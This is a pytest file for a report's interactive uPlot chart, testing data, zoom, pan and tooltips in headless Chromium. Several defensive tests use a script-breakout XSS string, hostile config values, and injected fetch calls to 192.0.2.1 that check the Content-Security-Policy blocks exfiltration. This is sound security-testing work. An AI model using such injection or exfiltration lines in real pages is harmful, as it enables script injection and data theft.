"""The report's interactive accuracy-energy chart: its data, its inlined code, and the page in headless Chromium.

The browser tests drive a real Chromium over the DevTools protocol (``tests/reports/cdp.py``): the mouse moves,
presses and scrolls through Chromium's input pipeline, and every console message, exception and request the
page makes is recorded. The reports are built from runs written by the sweep's own RunWriter (conftest).
"""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from reports.analysis import DEFAULT_OBJECTIVES, EnergyInfo, FrontResult
from reports.interactive import VENDOR, interactive_chart, json_island
from tests.reports.cdp import Browser
from tests.reports.conftest import XSS, XSS_ID
from tests.reports.test_html_browser import chromium  # noqa: F401  (the fixture: skip here, fail in CI)

SIZE_BOUND = 2_000_000  # bytes: the bound on index.html for the default sweep


def test_vendored_uplot_is_the_release_its_readme_names() -> None:
    readme = (VENDOR / "README.md").read_text()
    for name in ("uPlot.iife.min.js", "uPlot.min.css"):
        recorded = re.search(rf"`{re.escape(name)}` sha256 \| `([0-9a-f]{{64}})`", readme)
        assert recorded, name
        assert hashlib.sha256((VENDOR / name).read_bytes()).hexdigest() == recorded.group(1)
    assert "v1.6.32" in (VENDOR / "uPlot.iife.min.js").read_text()[:100]
    assert "MIT License" in (VENDOR / "LICENSE").read_text()


def test_json_island_cannot_end_its_script_element() -> None:
    data = {"id": "</script><script>alert(1)</script>", "c": "<!-- & \u2028"}
    island = str(json_island(data))
    assert "<" not in island and ">" not in island and "&" not in island and "\u2028" not in island
    assert json.loads(island) == data


def _island(page: Path) -> dict[str, Any]:
    found = re.search(r'<script type="application/json" id="ws-explore-data">(.*?)</script>', page.read_text(), re.S)
    assert found, "no chart data in the page"
    data: dict[str, Any] = json.loads(found.group(1))
    return data


def test_chart_data_has_every_drawable_trial_and_the_reports_front(report_dir: Path) -> None:
    data = _island(report_dir / "index.html")
    trials = pd.read_csv(report_dir / "trials.csv")
    drawable = trials[trials["accuracy"].notna() & (trials["energy_j"] > 0)]
    assert sorted(data["trial_id"]) == sorted(drawable["trial_id"])
    front = {t for t, on in zip(data["trial_id"], data["on_front"], strict=True) if on}
    assert front == set(pd.read_csv(report_dir / "pareto.csv")["trial_id"])
    state = dict(zip(data["trial_id"], data["state"], strict=True))
    assert state["t_stopped"] == "stopped" and state["t_failed"] == "failed"
    assert [t for t, k in zip(data["trial_id"], data["knee"], strict=True) if k] == ["t011"]
    assert data["energy_estimated"] is True  # the synthetic run's CPU node has no RAPL: an estimate
    assert data["log_energy"] is True  # 1 J (stopped) to ~2 kJ: the static figure's rule
    i = data["trial_id"].index("t011")
    row = trials.set_index("trial_id").loc["t011"]
    assert data["x"][i] == pytest.approx(row["energy_j"], rel=1e-5)
    assert data["y"][i] == pytest.approx(row["accuracy"], rel=1e-5)
    config = dict(zip(data["keys"], (c[i] for c in data["config"]), strict=True))
    assert config["depth"] == row["depth"] and config["width"] == row["width"]


@pytest.fixture
def browser(chromium: str, tmp_path: Path) -> Iterator[Browser]:  # noqa: F811
    b = Browser(chromium, tmp_path / "profile")
    try:
        yield b
    finally:
        b.close()


def _point(b: Browser, trial_id: str) -> tuple[float, float]:
    """Viewport pixel of a trial's point (uPlot's public valToPos), after scrolling the chart into view."""
    xy = b.js(
        f"""(function () {{
          var e = wattsweepExplore, u = e.plot, t = e.data.trial_id.indexOf({json.dumps(trial_id)});
          document.getElementById('ws-explore').scrollIntoView();
          var r = u.over.getBoundingClientRect();
          return [r.left + u.valToPos(e.data.x[t], 'x'), r.top + u.valToPos(e.data.y[t], 'y')];
        }})()"""
    )
    return float(xy[0]), float(xy[1])


def _tip(b: Browser) -> dict[str, Any]:
    tip: dict[str, Any] = b.js(
        """(function () { var t = document.querySelector('#ws-explore .ws-tip');
           return {shown: t.style.display !== 'none', trial: t.getAttribute('data-trial'), text: t.textContent}; })()"""
    )
    return tip


def _scales(b: Browser) -> dict[str, float]:
    s: dict[str, float] = b.js(
        "(function () { var s = wattsweepExplore.plot.scales;"
        " return {x0: s.x.min, x1: s.x.max, y0: s.y.min, y1: s.y.max}; })()"
    )
    return s


def _hover(b: Browser, x: float, y: float) -> dict[str, Any]:
    b.mouse("mouseMoved", x, y)
    return _tip(b)


def test_chart_renders_opens_on_the_front_and_shows_a_trial_on_hover(browser: Browser, report_dir: Path) -> None:
    page = report_dir / "index.html"
    assert page.stat().st_size < SIZE_BOUND
    browser.open(page.as_uri())
    drawn = browser.js(
        """(function () { var c = document.querySelector('#ws-explore canvas');
           var px = c.getContext('2d').getImageData(0, 0, c.width, c.height).data, ink = 0;
           for (var i = 3; i < px.length; i += 4) { if (px[i] > 0) { ink++; } }
           return {w: c.width, h: c.height, ink: ink}; })()"""
    )
    assert drawn["w"] > 300 and drawn["h"] > 300 and drawn["ink"] > 1000
    # opened zoomed to the front: every front point in view, the stopped trial (0.99 at 1 J) outside it
    data, s = _island(page), _scales(browser)
    for x, y, on in zip(data["x"], data["y"], data["on_front"], strict=True):
        if on:
            assert s["x0"] <= x <= s["x1"] and s["y0"] <= y <= s["y1"]
    stopped = data["trial_id"].index("t_stopped")
    assert not s["y0"] <= data["y"][stopped] <= s["y1"]
    assert "Zoomed to the Pareto front" in browser.js("document.querySelector('#ws-explore .ws-status').textContent")

    tip = _hover(browser, *_point(browser, "t011"))
    assert tip["shown"] and tip["trial"] == "t011"
    assert "knee" in tip["text"] and "J, estimated" in tip["text"] and "depth20" in tip["text"].replace(" ", "")
    # away from every point the tooltip goes
    x, y = _point(browser, "t011")
    assert not _hover(browser, x, y - 120)["shown"]
    assert browser.problems() == []
    page_url = page.as_uri()
    assert [u for u in browser.requests() if u != page_url and not u.startswith("data:")] == []


def test_zoom_pan_and_hiding_stopped_trials(browser: Browser, report_dir: Path) -> None:
    browser.open((report_dir / "index.html").as_uri())
    x, y = _point(browser, "t011")
    before = _scales(browser)
    # wheel up over the knee: both axes zoom in around it
    browser.mouse("mouseWheel", x, y, deltaX=0, deltaY=-120)
    wheeled = _scales(browser)
    assert wheeled["x1"] / wheeled["x0"] < before["x1"] / before["x0"]
    assert wheeled["y1"] - wheeled["y0"] < before["y1"] - before["y0"]
    # Shift+drag pans: the span stays, the window moves
    browser.mouse("mousePressed", x, y, button="left", clickCount=1, modifiers=8)
    browser.mouse("mouseMoved", x + 80, y + 40, button="left", modifiers=8)
    browser.mouse("mouseReleased", x + 80, y + 40, button="left", clickCount=1, modifiers=8)
    panned = _scales(browser)
    assert panned["x0"] < wheeled["x0"] and panned["y0"] > wheeled["y0"]
    assert panned["x1"] / panned["x0"] == pytest.approx(wheeled["x1"] / wheeled["x0"], rel=1e-6)
    assert panned["y1"] - panned["y0"] == pytest.approx(wheeled["y1"] - wheeled["y0"], rel=1e-6)
    # "Show all trials", then hide the stopped ones from the legend: the stopped trial no longer answers a hover
    browser.js(
        "Array.from(document.querySelectorAll('#ws-explore button')).find(b => /all/.test(b.textContent)).click()"
    )
    assert _hover(browser, *_point(browser, "t_stopped"))["trial"] == "t_stopped"
    entry = browser.js(
        """(function () { var th = Array.from(document.querySelectorAll('#ws-explore .u-legend .u-series th'))
             .find(s => /stopped/.test(s.textContent)); th.scrollIntoView(); var r = th.getBoundingClientRect();
             return [r.left + r.width / 2, r.top + r.height / 2]; })()"""
    )
    browser.mouse("mousePressed", *entry, button="left", clickCount=1)
    browser.mouse("mouseReleased", *entry, button="left", clickCount=1)
    assert browser.js("wattsweepExplore.plot.series.find(s => /stopped/.test(s.label)).show") is False
    assert _hover(browser, *_point(browser, "t_stopped"))["trial"] != "t_stopped"
    # a dragged box zooms to it
    x, y = _point(browser, "t011")
    browser.mouse("mousePressed", x - 60, y - 40, button="left", clickCount=1)
    browser.mouse("mouseMoved", x + 60, y + 40, button="left")
    browser.mouse("mouseReleased", x + 60, y + 40, button="left", clickCount=1)
    boxed, shown_all = _scales(browser), browser.js("wattsweepExplore.views.all")
    assert boxed["y1"] - boxed["y0"] < 0.5 * (shown_all["y"][1] - shown_all["y"][0])
    assert browser.problems() == []


def test_hostile_config_values_stay_text_in_the_tooltip(browser: Browser, hostile_report: Path) -> None:
    browser.open((hostile_report / "index.html").as_uri())
    tip = _hover(browser, *_point(browser, XSS_ID))
    assert tip["trial"] == XSS_ID and XSS in tip["text"]
    assert browser.js("document.querySelectorAll('#ws-explore script, #ws-explore img').length") == 0
    assert not [e for e in browser.events if e.get("method") == "Page.javascriptDialogOpening"]
    assert browser.problems() == []


def test_the_harness_sees_console_errors_and_requests(browser: Browser, tmp_path: Path) -> None:
    # why: a check that cannot fail proves nothing
    page = tmp_path / "leaky.html"
    page.write_text(
        "<html><body><script>console.error('boom'); fetch('http://192.0.2.1/x').catch(function () {});"
        "</script></body></html>"
    )
    browser.open(page.as_uri())
    assert any("boom" in p for p in browser.problems())
    assert "http://192.0.2.1/x" in browser.requests()


def test_the_reports_policy_blocks_any_request(browser: Browser, report_dir: Path, tmp_path: Path) -> None:
    # the report's Content-Security-Policy: even a script that slipped in could not send anything out
    page = tmp_path / "index.html"
    html = (report_dir / "index.html").read_text()
    page.write_text(html.replace("</body>", "<script>fetch('http://192.0.2.1/leak').catch(function () {});</script>"))
    browser.open(page.as_uri())
    assert "http://192.0.2.1/leak" not in browser.requests()
    assert any("Content Security Policy" in p for p in browser.problems())


def test_no_front_opens_on_every_trial_and_nothing_to_draw_no_chart(
    browser: Browser, tmp_path: Path, trial_writer: Callable[..., None]
) -> None:
    from reports import build_report
    from rundir import RunWriter

    w = RunWriter(tmp_path / "early")
    w.write_manifest({"name": "early", "status": "running"})
    trial_writer(w, "a", {"depth": 8}, [0.5], [3.0], "running")
    trial_writer(w, "b", {"depth": 8}, [0.6], [4.0], "stopped")
    page = build_report(tmp_path / "early") / "index.html"
    browser.open(page.as_uri())
    assert browser.js("wattsweepExplore.views.front === wattsweepExplore.views.all") is True
    assert "All trials (no front yet: no trial has completed its budget): 2 of 2 shown trials in view." in browser.js(
        "document.querySelector('#ws-explore .ws-status').textContent"
    )
    assert _hover(browser, *_point(browser, "b"))["trial"] == "b"
    assert browser.problems() == []
    # no trial with both accuracy and a positive energy: no chart (the page then has no script at all)
    trials = pd.DataFrame({"trial_id": ["a"], "state": ["failed"], "accuracy": [0.5], "energy_j": [float("nan")]})
    front = FrontResult(DEFAULT_OBJECTIVES, 0, None, None, None, history=pd.DataFrame())
    assert interactive_chart(trials, front, EnergyInfo(True, (), ""), ()) is None
